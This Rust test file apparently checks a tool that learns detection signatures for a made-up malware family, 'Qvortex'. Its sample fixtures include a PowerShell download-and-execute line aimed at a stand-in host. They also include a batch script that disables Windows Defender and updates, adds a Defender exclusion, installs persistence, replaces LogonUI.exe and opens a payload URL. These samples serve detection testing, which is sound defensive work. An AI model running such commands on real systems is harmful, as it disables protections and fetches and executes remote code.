use super::*;
use evidence::{Event, Location, Provenance, Record, RecordData};
use intel::{IndicatorKind as Kind, Observation};

const SCRIPT: &str = "$stage='qvortexloader'; IEX (New-Object Net.WebClient).DownloadString('http://cdn.qvortex.example.invalid:8000/a1.ps1'); \
                      Get-Process | Where-Object { $_.Name -eq 'powershell' }; $dns='8.8.8.8'; Invoke-WebRequest https://github.com/";

fn learned(text: &str, clean: &[Evidence]) -> Learned {
    let sample = Sample::file("a.ps1".into(), text.as_bytes().to_vec());
    learn("Qvortex", "made for a test", &[sample], &[], Intel::builtin(), clean)
}

fn has(learned: &Learned, kind: Kind, part: &str) -> bool {
    learned.family.indicators.iter().any(|i| i.kind == kind && i.pattern.as_str().contains(part))
}

#[test]
fn what_is_its_own_is_kept_and_what_is_everybodys_is_left_out() {
    let learned = learned(SCRIPT, &[]);
    assert!(has(&learned, Kind::CommandText, "qvortexloader"), "{:#?}", learned.family.indicators);
    assert!(has(&learned, Kind::Domain, "cdn.qvortex.example.invalid"), "{:#?}", learned.family.indicators);
    assert!(has(&learned, Kind::Sha256, "") && !learned.hashes_only());
    for common in ["8.8.8.8", "github.com"] {
        assert!(!learned.family.indicators.iter().any(|i| i.pattern.as_str() == common), "{common}");
        assert!(
            learned.left_out.iter().any(|(candidate, why)| candidate.text == common && *why == Why::Common)
        );
    }
    assert!(!has(&learned, Kind::CommandText, "Where-Object"));
}

#[test]
fn the_sample_is_known_again_and_its_file_is_as_families_are() {
    let learned = learned(SCRIPT, &[]);
    let text = learned.family.to_toml().unwrap();
    let family = Family::from_toml("x.toml", &text).unwrap();
    let intel = Intel::builtin().clone().with_families([family]);
    let seen = [Observation::new(Kind::CommandText, SCRIPT)];
    let found = intel.match_families(&seen);
    assert_eq!((found[0].family, found[0].certain), ("Qvortex", true));
}

/// An empty file, the name of a type and zeros are everybody's: their hashes would find them everywhere.
#[test]
fn content_that_says_nothing_is_left_out() {
    for content in [&b""[..], b"String", b"   \r\n                                            ", &[0; 4096]] {
        let sample = Sample::file("a".into(), content.to_vec());
        let learned = learn("Qvortex", "made for a test", &[sample], &[], Intel::builtin(), &[]);
        assert!(learned.family.indicators.is_empty(), "{:?}", learned.family.indicators);
        assert!(matches!(learned.left_out[..], [(_, Why::Short)]), "{:?}", learned.left_out);
    }
}

#[test]
fn what_clean_evidence_has_is_left_out() {
    let mut clean = Evidence::default();
    let text = "a script of our own, from cdn.qvortex.example.invalid".to_owned();
    clean.records.push(Record {
        provenance: Provenance { source: 0, location: Location::Whole },
        data: RecordData::Event(Event { data: [("ScriptBlockText".to_owned(), text)].into(), ..event() }),
    });
    let learned = learned(SCRIPT, &[clean]);
    assert!(!has(&learned, Kind::Domain, "cdn.qvortex.example.invalid"));
    assert!(learned.left_out.iter().any(|(_, why)| *why == Why::Clean), "{:?}", learned.left_out);
}

fn event() -> Event {
    serde_json::from_value(serde_json::json!({
        "provider": "x", "channel": "x", "event_id": 1, "record_id": 1, "time": "2026-01-01T00:00:00Z", "computer": "x", "data": {}
    }))
    .unwrap()
}

#[test]
fn stock_names_never_become_a_signature() {
    let text = "Get-WmiObject __EventFilter -Filter \"Name='SCM Event Log Filter'\"; 'select * from MSFT_SCMEventLogEvent'";
    let learned = learned(text, &[]);
    let matched = clean::matched(&learned.family, Intel::builtin(), &[]);
    assert!(matched.is_empty(), "{matched:?}");
    assert!(!has(&learned, Kind::CommandText, "MSFT_SCMEventLogEvent"), "{:#?}", learned.family.indicators);
}

#[test]
fn a_script_of_common_words_leaves_hashes_only() {
    let learned = learned("Get-Process | Stop-Process -Name powershell -Force", &[]);
    assert!(learned.hashes_only(), "{:#?}", learned.family.indicators);
}

/// What rival killers do to Windows' own services, tasks and programs.
const KILLER: &str = r#"@echo off
net stop wuauserv
sc config wuauserv start= disabled
sc stop BITS
sc delete WinDefend
sc stop SecurityHealthService
schtasks /delete /tn "\Microsoft\Windows\Defrag\ScheduledDefrag" /f
schtasks /change /tn "\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan" /disable
copy /y x.exe D:\Windows\System32\LogonUI.exe
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v q /d C:\Windows\System32\defrag.exe
powershell -c "Get-WmiObject -Class Win32_PerfFormattedData_PerfOS_System; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.SecurityProtocolType]::Tls12"
powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\ProgramData'"
sc create QvortexHost binPath= C:\ProgramData\qvortex\host.exe
schtasks /create /tn QvortexUpdate /tr C:\ProgramData\qvortex\host.exe
start http://qvortex.badsite.top/a.exe
"#;

#[test]
fn what_a_script_does_to_windows_is_no_sign_of_it_and_what_it_makes_is() {
    let learned = learned(KILLER, &[]);
    let kept: Vec<_> = learned.family.indicators.iter().map(|i| i.pattern.as_str().to_lowercase()).collect();
    for stock in
        ["wuauserv", "bits", "windefend", "securityhealth", "defrag", "logonui", "mppreference", "win32_"]
    {
        assert!(!kept.iter().any(|pattern| pattern.contains(stock)), "{stock}: {kept:#?}");
    }
    assert!(has(&learned, Kind::ServiceName, "QvortexHost"), "{kept:#?}");
    assert!(has(&learned, Kind::TaskName, "QvortexUpdate"), "{kept:#?}");
    assert!(has(&learned, Kind::FilePath, "qvortex"), "{kept:#?}");
    assert!(has(&learned, Kind::Domain, "qvortex.badsite.top"), "{kept:#?}");

    // An administrator who switches the same services off is nobody's malware.
    let intel = Intel::builtin().clone().with_families([learned.family]);
    let harmless = "cmd /c sc config wuauserv start= disabled & sc stop SecurityHealthService & sc stop BITS & \
                    powershell Set-MpPreference -DisableRealtimeMonitoring $true";
    let found = intel.match_families(&[Observation::new(Kind::CommandText, harmless)]);
    assert!(found.iter().all(|found| found.family != "Qvortex"), "{found:?}");
}

#[test]
fn an_address_and_its_host_count_once_and_vendors_are_nobodys() {
    let text = "iwr https://www.7-zip.org/a/7z2301-x64.msi -OutFile z.msi; iwr http://cdn.qvortex.example.invalid/a.exe -OutFile a.exe; \
                iwr https://www.zip.org/a/b.msi; iwr http://t.zz3r0.top/a; \
                schtasks /create /tn GoogleUpdateTaskMachineUA /tr a.exe";
    let learned = learned(text, &[]);
    let list = &learned.family.indicators;
    for (kind, part, kept) in [
        (Kind::Domain, "cdn.qvortex.example.invalid", true),
        (Kind::Url, "qvortex", false),
        (Kind::Domain, "t.zz3r0.top", true),
        (Kind::Domain, "zip.org", false),
        (Kind::Url, "zip.org", false),
        (Kind::TaskName, "GoogleUpdate", false),
    ] {
        assert_eq!(has(&learned, kind, part), kept, "{kind:?} {part}: {list:#?}");
    }
}

#[test]
fn pieces_of_text_alone_are_never_certain() {
    let lines: Vec<_> =
        (0..30).map(|n| format!("$qvortexpart{n} = 'zanthorum wibblefrotz number {n}'")).collect();
    let lines = lines.join("\n");
    let learned = learned(&lines, &[]);
    let weights: u32 = learned
        .family
        .indicators
        .iter()
        .filter(|i| i.kind == Kind::CommandText)
        .map(|i| u32::from(i.weight))
        .sum();
    assert!(weights > 0 && weights < learned.family.threshold, "{weights}");
    let intel = Intel::builtin().clone().with_families([learned.family]);
    let found = intel.match_families(&[Observation::new(Kind::CommandText, &lines)]);
    assert_eq!((found[0].family, found[0].content, found[0].certain), ("Qvortex", true, false));
}

#[test]
fn the_words_of_libraries_in_a_program_are_no_signature() {
    let mut program = b"MZ\x90\0".to_vec();
    for text in [
        "- not enough space for lowio initialization",
        "/rustc/9fc6b43126469e3858e2fe86cafb4f0fd5068869/library/core/src/fmt/mod.rs",
        "This program cannot be run in DOS mode.",
        "qv0rt3x9loader started with these settings",
    ] {
        program.extend([0; 8]);
        program.extend(text.as_bytes());
    }
    program.extend([0; 64]);
    let sample = Sample::file("a.exe".into(), program);
    let learned = learn("Qvortex", "made for a test", &[sample], &[], Intel::builtin(), &[]);
    let pieces: Vec<_> = learned
        .family
        .indicators
        .iter()
        .filter(|i| i.kind == Kind::CommandText)
        .map(|i| i.pattern.as_str())
        .collect();
    assert_eq!(pieces, ["qv0rt3x9loader started with these settings"]);
}
